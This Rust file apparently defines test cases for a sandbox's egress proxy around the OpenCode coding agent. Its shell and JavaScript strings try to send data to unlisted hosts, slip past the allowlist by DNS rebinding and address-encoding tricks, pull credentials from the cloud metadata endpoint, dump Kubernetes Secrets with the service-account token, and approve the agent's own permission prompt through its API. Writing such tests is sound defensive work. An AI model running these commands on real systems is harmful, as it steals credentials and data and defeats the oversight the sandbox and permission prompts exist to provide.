//! Through the egress proxy: to where its list, or what a name resolves to, does not let anybody. `$LISTED` is a name on the list that
//! resolves to the attacker's private address; the metadata address is on the list too, and answers inside of the pod.

use crate::leaks::attack::{
    Attack,
    Class::{Asks, Key, Out, Pose},
    Sign,
};

pub(super) const ALL: &[Attack] = &[
    Attack::shell(
        Out,
        "egress-unlisted",
        "a tunnel to an address that is not on the list",
        Sign::Sends,
        r#"tunnel "$OUT" "data $NONCE""#,
    ),
    Attack::shell(
        Out,
        "egress-plain",
        "a plain HTTP request to it",
        Sign::Sends,
        r#"printf 'GET http://%s/%s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n' "$OUT" "$NONCE" "$OUT" | raw 127.0.0.1 3005"#,
    ),
    Attack::shell(
        Out,
        "egress-rebinding",
        "a listed name that resolves to a private address",
        Sign::Sends,
        r#"tunnel "$LISTED:$OUT_PORT" "data $NONCE""#,
    ),
    Attack::shell(
        Out,
        "egress-other-host",
        "a listed host in the Host header, another in the request line",
        Sign::Sends,
        r#"printf 'GET http://%s/%s HTTP/1.1\r\nHost: %s:%s\r\nConnection: close\r\n\r\n' "$OUT" "$NONCE" "$LISTED" "$OUT_PORT" | raw 127.0.0.1 3005"#,
    ),
    Attack::shell(
        Out,
        "egress-address-as-number",
        "an address written as one number",
        Sign::Sends,
        r#"IFS=. read -r a b c d <<<"$NODE"; tunnel "$(((a << 24) + (b << 16) + (c << 8) + d)):$OUT_PORT" "data $NONCE""#,
    ),
    Attack::shell(
        Out,
        "egress-address-in-ipv6",
        "an IPv4 address in IPv6",
        Sign::Sends,
        r#"tunnel "[::ffff:$NODE]:$OUT_PORT" "data $NONCE""#,
    ),
    Attack::shell(
        Key,
        "egress-to-metadata",
        "the cloud's metadata address, though it is on the list",
        Sign::Says("METADATA-CREDENTIAL"),
        r#"printf 'GET http://169.254.169.254/latest/ HTTP/1.1\r\nHost: 169.254.169.254\r\nConnection: close\r\n\r\n' | raw 127.0.0.1 3005"#,
    ),
    Attack::shell(
        Key,
        "metadata",
        "the cloud's metadata address",
        Sign::Says("METADATA-CREDENTIAL"),
        r#"printf 'GET /latest/ HTTP/1.0\r\n\r\n' | raw 169.254.169.254 80"#,
    )
    .isolated(),
    Attack::shell(
        Key,
        "egress-to-the-api-server",
        "the Secret from the API server, through the egress proxy",
        Sign::Key,
        r#"js 'const t = await Bun.file("/var/run/secrets/kubernetes.io/serviceaccount/token").text().catch(() => "none");
  const r = await fetch(`https://${process.env.KUBERNETES_SERVICE_HOST}/api/v1/namespaces/${process.env.NS}/secrets`, {headers: {authorization: `Bearer ${t}`}, proxy: "http://127.0.0.1:3005"});
  for (const s of (await r.json()).items) for (const v of Object.values(s.data ?? {})) console.log(atob(v))' | keys"#,
    ),
    Attack::shell(
        Asks,
        "egress-to-opencode",
        "OpenCode's own route, through the egress proxy",
        Sign::Answers,
        r#"b='{"reply":"once"}'; tunnel 127.0.0.1:4096 "POST /permission/$ASK/reply?directory=/workspace HTTP/1.1
Host: 127.0.0.1:4096
Authorization: Basic $(printf 'opencode:%s' "$(password)" | base64 -w0)
Content-Type: application/json
Content-Length: ${#b}
Connection: close

$b""#,
    ),
    Attack::shell(
        Pose,
        "egress-to-the-credential-proxy",
        "the credential proxy, through the egress proxy",
        Sign::Says("REACHED"),
        r#"tunnel 127.0.0.1:3004 "GET / HTTP/1.1
Host: 127.0.0.1:3004
Connection: close

" | [ "$(grep -a -c '^HTTP/1.1 ')" -gt 1 ] && echo REACHED"#,
    ),
    Attack::shell(
        Pose,
        "egress-to-the-sidecars-api",
        "the sidecar's API at the pod's own address, through the egress proxy",
        Sign::Says("REACHED"),
        r#"tunnel "$POD_IP:3003" "GET /healthz HTTP/1.1
Host: $POD_IP:3003
Connection: close

" | grep -a -q 'x-request-id' && echo REACHED"#,
    ),
];
